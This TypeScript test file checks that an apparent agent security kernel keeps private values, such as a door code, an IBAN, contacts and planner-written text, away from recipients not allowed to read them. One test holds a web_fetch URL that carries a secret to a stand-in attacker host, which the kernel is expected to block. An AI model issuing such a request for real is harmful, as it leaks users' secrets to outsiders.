// Family P, confidentiality: what may be sent to whom. No release rule anywhere.
import { expect } from 'vitest';
import { z } from 'zod';
import { createKernel } from '../../hosts/index.js';
import { scriptedParser } from '../../reasoner/index.js';
import type { Arg, Step } from '../../schemas/index.js';
import { verifies } from '../claims/verifies.js';
import { makeCanaries } from '../fakes/canary.js';
import { alice, makeOffice } from '../fakes/office.js';
import { call, fact, parse, planOf, ref } from '../fakes/plan-steps.js';
import { expectBlocked, expectCommitted } from '../fakes/refusal.js';

const both = 'Mail it to alice@example.com or bob@example.org';
const inbox = call('inbox', 'read_inbox');
const mail = (to: Arg, body: Arg): Step => call('send', 'send_email', { to, body });

verifies(['INV-P7', 'K-9'], 'a private value goes to its readers and to nobody else', async () => {
  const office = makeOffice();
  const secret = ref('inbox', '0.body');
  expectBlocked(
    await office.run(both, [inbox, mail('bob@example.org', secret)]),
    'reader_excluded',
  );
  expect(office.canaries.of('send_email')).toEqual([]);
  expectCommitted(await office.run(both, [inbox, mail('alice@example.com', secret)]));
  expect(office.canaries.of('send_email')).toEqual([
    { to: 'alice@example.com', body: 'The door code is PIN-4711.' },
  ]);
});

verifies('INV-P7', 'of several recipients each one must be a reader', async () => {
  const office = makeOffice();
  const send = (to: readonly string[]): readonly Step[] => [
    inbox,
    call('send', 'send_to_all', { to, body: ref('inbox', '0.body') }),
  ];
  expectBlocked(
    await office.run(both, send(['alice@example.com', 'bob@example.org'])),
    'reader_excluded',
  );
  expectCommitted(await office.run(both, send(['alice@example.com'])));
  expect(office.canaries.of('send_to_all')).toHaveLength(1);
});

verifies('INV-P7', 'a result that declares no readers is sent to nobody', async () => {
  const office = makeOffice();
  const steps = [call('list', 'list_channels'), mail('alice@example.com', ref('list', '0.name'))];
  expectBlocked(await office.run(both, steps), 'reader_excluded');
  expect(office.canaries.of('send_email')).toEqual([]);
});

verifies('INV-P7', '`anyone` covers nothing that an outside party wrote', async () => {
  const office = makeOffice();
  const steps = [call('loud', 'shout', { text: 'it' }), mail('alice@example.com', ref('loud'))];
  const result = await office.run(both, steps);
  expectBlocked(result, 'reader_excluded');
  expect(result.output).toBeNull();
  expect(office.canaries.of('send_email')).toEqual([]);
});

verifies('INV-P7', 'a fact is for the user unless the host says otherwise', async () => {
  const office = makeOffice();
  const steps = [mail('bob@example.org', fact('iban'))];
  const facts = { iban: { value: 'DE02' } };
  expectBlocked(await office.run(both, steps, { facts }), 'reader_excluded');
  const shared = { iban: { value: 'DE02', readers: [alice, 'user:bob@example.org'] } };
  expectCommitted(await office.run(both, steps, { facts: shared }));
  expect(office.canaries.of('send_email')).toEqual([{ to: 'bob@example.org', body: 'DE02' }]);
});

verifies(['INV-P10', 'K-12b'], 'a secret in the URL of a fetch stays', async () => {
  const office = makeOffice();
  const steps = [inbox, call('fetch', 'web_fetch', { url: ref('inbox', '0.body') })];
  expectBlocked(await office.run('Look it up', steps), 'critical_untrusted');
  const facts = { token: { value: 'https://evil.example/?d=4711' } };
  const known = [call('fetch', 'web_fetch', { url: fact('token') })];
  expectBlocked(await office.run('Look it up', known, { facts }), 'reader_excluded');
  expect(office.canaries.of('web_fetch')).toEqual([]);
  const asked = [call('fetch', 'web_fetch', { url: 'https://docs.example.com/a' })];
  expectCommitted(await office.run('Read https://docs.example.com/a', asked));
  expect(office.canaries.of('web_fetch')).toEqual([{ url: 'https://docs.example.com/a' }]);
});

verifies(['INV-P8', 'K-18', 'K-19'], 'contacts of others do not even go to the user', async () => {
  const office = makeOffice();
  const list = call('people', 'list_contacts');
  const steps = [list, mail('alice@example.com', ref('people', '0.email'))];
  expectBlocked(await office.run(both, steps), 'third_party_subject');
  expect(office.canaries.of('send_email')).toEqual([]);
  const kept = [list, call('note', 'save_note', { text: ref('people', '0.email') })];
  expectCommitted(await office.run(both, kept));
  expect(office.canaries.of('save_note')).toEqual([{ text: 'bob@example.org' }]);
});

verifies('INV-P8', 'data about one person goes to that person', async () => {
  const canaries = makeCanaries();
  const tools = [
    canaries.tool(
      {
        name: 'read_file',
        description: 'A file on somebody.',
        effect: 'read',
        capabilities: ['file.read'],
        input: z.strictObject({}),
        output: z.strictObject({ about: z.string(), text: z.string() }),
        result: {
          '/about': { minted: true, readers: ['user'] },
          '/text': {
            minted: true,
            readers: ['user', 'user:bob@example.org', 'user:carol@example.org'],
            subjectsFrom: { from: '/about', parse: 'email' },
          },
        },
      },
      { about: 'bob@example.org', text: 'fine' },
    ),
    canaries.tool(
      {
        name: 'send_email',
        description: 'Sends one mail.',
        effect: 'write',
        capabilities: ['mail.send'],
        classes: ['networkEgress'],
        args: { '/body': { role: 'content' } },
        recipients: [{ from: '/to', parse: 'email' }],
        input: z.strictObject({ to: z.string(), body: z.string() }),
        output: z.null(),
      },
      null,
    ),
  ];
  const kernel = createKernel({ tools, grant: ['file.read', 'mail.send'], principal: alice });
  const run = (to: string) =>
    kernel.run('Mail it to alice@example.com, bob@example.org or carol@example.org', {
      plan: planOf(call('file', 'read_file'), mail(to, ref('file', 'text'))),
    });
  expectBlocked(await run('carol@example.org'), 'third_party_subject');
  expectBlocked(await run('alice@example.com'), 'third_party_subject');
  expectCommitted(await run('bob@example.org'));
  expect(canaries.of('send_email')).toEqual([{ to: 'bob@example.org', body: 'fine' }]);
});

verifies(
  ['INV-P14', 'K-10'],
  'words of the planner or the parser go to the user alone',
  async () => {
    const parser = scriptedParser({ words: { text: 'All is well.' } });
    const office = makeOffice({ parser });
    const summary = [inbox, parse('sum', ref('inbox'), 'words')];
    const composed = 'I quit, yours Alice';
    expectBlocked(await office.run(both, [mail('bob@example.org', composed)]), 'content_to_other');
    expectCommitted(await office.run(both, [mail('alice@example.com', composed)]));
    expectCommitted(
      await office.run(both, [...summary, mail('alice@example.com', ref('sum', 'text'))]),
    );
    const open = makeOffice({ parser, answers: { read_inbox: [] } });
    expectBlocked(
      await open.run(both, [...summary, mail('bob@example.org', ref('sum', 'text'))]),
      'reader_excluded',
    );
    expect(office.canaries.of('send_email').map(({ to }) => to)).toEqual([
      'alice@example.com',
      'alice@example.com',
    ]);
  },
);

verifies('INV-P14', 'a channel is somebody else, also where all its members may read', async () => {
  const office = makeOffice();
  const post = (text: string): readonly Step[] => [
    call('list', 'list_channels'),
    call('post', 'post_message', { channel: ref('list', '0.id'), text }),
  ];
  expectCommitted(await office.run('Post "on my way"', post('on my way')));
  expectCommitted(await office.run('Post something', post('on my way')));
  const members = ['user:alice@example.com', 'user:bob@example.org'];
  const channels = [{ id: 'c1', name: 'general', members }];
  const open = makeOffice({ answers: { list_channels: channels } });
  expectBlocked(await open.run('Post something', post('on my way')), 'content_to_other');
  expectCommitted(await open.run('Post "on my way"', post('on my way')));
  expect(open.canaries.of('post_message')).toHaveLength(1);
});
